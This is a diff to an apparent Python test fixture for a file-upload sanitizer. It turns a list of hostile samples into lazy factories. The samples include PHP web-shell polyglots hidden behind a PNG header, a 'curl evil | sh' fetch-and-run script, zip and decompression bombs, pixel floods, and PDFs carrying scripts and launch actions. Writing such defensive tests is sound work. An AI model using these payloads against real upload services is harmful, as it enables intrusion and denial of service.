@@ -9,7 +9,7 @@ import random
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 
 import pikepdf
 from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Stream, String
@@ -84,7 +84,8 @@ def _field_that_counts(made: pikepdf.Pdf) -> None:
 
 
 def _swollen_page(made: pikepdf.Pdf) -> None:
-    squeezed = zlib.compress(b"0 0 m 9 9 l S\n" * 40_000_000, 9)
+    squeezing, lines = zlib.compressobj(9), b"0 0 m 9 9 l S\n" * 1_000_000
+    squeezed = b"".join(squeezing.compress(lines) for _million in range(40)) + squeezing.flush()
     made.pages[0].obj.Contents = Stream(made, squeezed, Filter=Name.FlateDecode)
 
 
@@ -127,49 +128,53 @@ def scratched(content: bytes, seed: int) -> bytes:
     return bytes(changed)
 
 
-def hostile() -> Iterator[tuple[str, bytes, str]]:
-    """(name, bytes, what must become of it)."""
-    yield "page of a site", HTML, "refused"
-    yield "drawing with a script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "refused"
-    yield "archive", archive(), "refused"
-    yield "archive that swells", archive(b"\0" * 20_000_000), "refused"
-    yield "program of Windows", b"MZ" + b"\0" * 500, "refused"
-    yield "program of Linux", b"\x7fELF" + b"\0" * 500, "refused"
-    yield "script for a shell", b"#!/bin/sh\ncurl evil | sh\n", "refused"
-    yield "old Word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "refused"
-    yield "animation", picture("GIF"), "refused"
-    yield "picture of another kind", picture("TIFF"), "refused"
-    yield "page before a PDF", HTML + pdf(), "refused"
-    yield "archive before a PDF", archive() + pdf(), "refused"
-    yield "head of a PDF and nothing", b"%PDF-1.7\n", "refused"
-    yield "head of a PDF, then a page", b"%PDF-1.4\n" + HTML * 30, "refused"
-    yield "half a PDF", pdf()[:200], "refused"
-    yield "PDF without pages", pdf(pages=0), "refused"
-    yield "PDF locked", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "refused"
-    yield "PDF of too many pages", pdf(pages=1500), "refused"
-    yield "PDF whose pages go in a circle", pdf(_pages_in_a_circle), "refused"
-    yield "PDF with a page that swells", pdf(_swollen_page), "refused"
-    yield "half a JPEG", picture("JPEG", (900, 900))[:700], "refused"
-    yield "half a PNG", picture("PNG", (900, 900))[:60], "refused"
-    yield "head of a JPEG, then a page", b"\xff\xd8\xff\xe0" + HTML * 30, "refused"
-    yield "head of a PNG, then a script", b"\x89PNG\r\n\x1a\n<?php system($_GET[1]); ?>" * 9, "refused"
-    yield "flood of pixels", flood(60_000, 60_000), "refused"
-    yield "flood in one line", flood(2_000_000_000, 1), "refused"
-    yield "picture without width", flood(0, 10), "refused"
-    yield "script when it opens", pdf(_opening_script), "inert"
-    yield "script by name", pdf(_named_script), "inert"
-    yield "script of a page", pdf(_script_of_page), "inert"
-    yield "script of a field", pdf(_field_that_counts), "inert"
-    yield "program when it opens", pdf(_launch), "inert"
-    yield "link that runs a script", pdf(_link(_script("link"))), "inert"
-    yield "link that sends a form", pdf(_link(Dictionary(S=Name.SubmitForm, F=String("http://x.example")))), "inert"
-    yield "form that lives", pdf(_living_form), "inert"
-    yield "program attached", pdf(_attachment), "inert"
-    yield "huge page", pdf(_huge_page), "inert"
-    yield "archive behind a PDF", pdf() + archive(), "inert"
-    yield "page behind a PDF", pdf() + HTML * 9, "inert"
-    yield "archive behind a JPEG", picture("JPEG") + archive(), "inert"
-    yield "script in the comment of a JPEG", picture("JPEG", comment=b"<?php " + MARK), "inert"
-    yield "position in a photograph", with_position(), "inert"
-    yield "text in a PNG", with_text(), "inert"
-    yield "page behind a PNG", picture("PNG") + HTML, "inert"
+# name -> how it is made, which for some takes a second, and what must become of it.
+HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
+    "page of a site": (lambda: HTML, "refused"),
+    "drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "refused"),
+    "archive": (lambda: archive(), "refused"),
+    "archive that swells": (lambda: archive(b"\0" * 20_000_000), "refused"),
+    "program of Windows": (lambda: b"MZ" + b"\0" * 500, "refused"),
+    "program of Linux": (lambda: b"\x7fELF" + b"\0" * 500, "refused"),
+    "script for a shell": (lambda: b"#!/bin/sh\ncurl evil | sh\n", "refused"),
+    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "refused"),
+    "animation": (lambda: picture("GIF"), "refused"),
+    "picture of another kind": (lambda: picture("TIFF"), "refused"),
+    "page before a PDF": (lambda: HTML + pdf(), "refused"),
+    "archive before a PDF": (lambda: archive() + pdf(), "refused"),
+    "head of a PDF and nothing": (lambda: b"%PDF-1.7\n", "refused"),
+    "head of a PDF, then a page": (lambda: b"%PDF-1.4\n" + HTML * 30, "refused"),
+    "half a PDF": (lambda: pdf()[:200], "refused"),
+    "PDF without pages": (lambda: pdf(pages=0), "refused"),
+    "PDF locked": (lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "refused"),
+    "PDF of too many pages": (lambda: pdf(pages=1500), "refused"),
+    "PDF whose pages go in a circle": (lambda: pdf(_pages_in_a_circle), "refused"),
+    "PDF with a page that swells": (lambda: pdf(_swollen_page), "refused"),
+    "half a JPEG": (lambda: picture("JPEG", (900, 900))[:700], "refused"),
+    "half a PNG": (lambda: picture("PNG", (900, 900))[:60], "refused"),
+    "head of a JPEG, then a page": (lambda: b"\xff\xd8\xff\xe0" + HTML * 30, "refused"),
+    "head of a PNG, then a script": (lambda: b"\x89PNG\r\n\x1a\n<?php system($_GET[1]); ?>" * 9, "refused"),
+    "flood of pixels": (lambda: flood(60_000, 60_000), "refused"),
+    "flood in one line": (lambda: flood(2_000_000_000, 1), "refused"),
+    "picture without width": (lambda: flood(0, 10), "refused"),
+    "script when it opens": (lambda: pdf(_opening_script), "inert"),
+    "script by name": (lambda: pdf(_named_script), "inert"),
+    "script of a page": (lambda: pdf(_script_of_page), "inert"),
+    "script of a field": (lambda: pdf(_field_that_counts), "inert"),
+    "program when it opens": (lambda: pdf(_launch), "inert"),
+    "link that runs a script": (lambda: pdf(_link(_script("link"))), "inert"),
+    "link that sends a form": (
+        lambda: pdf(_link(Dictionary(S=Name.SubmitForm, F=String("http://x.example")))),
+        "inert",
+    ),
+    "form that lives": (lambda: pdf(_living_form), "inert"),
+    "program attached": (lambda: pdf(_attachment), "inert"),
+    "huge page": (lambda: pdf(_huge_page), "inert"),
+    "archive behind a PDF": (lambda: pdf() + archive(), "inert"),
+    "page behind a PDF": (lambda: pdf() + HTML * 9, "inert"),
+    "archive behind a JPEG": (lambda: picture("JPEG") + archive(), "inert"),
+    "script in the comment of a JPEG": (lambda: picture("JPEG", comment=b"<?php " + MARK), "inert"),
+    "position in a photograph": (lambda: with_position(), "inert"),
+    "text in a PNG": (lambda: with_text(), "inert"),
+    "page behind a PNG": (lambda: picture("PNG") + HTML, "inert"),
+}
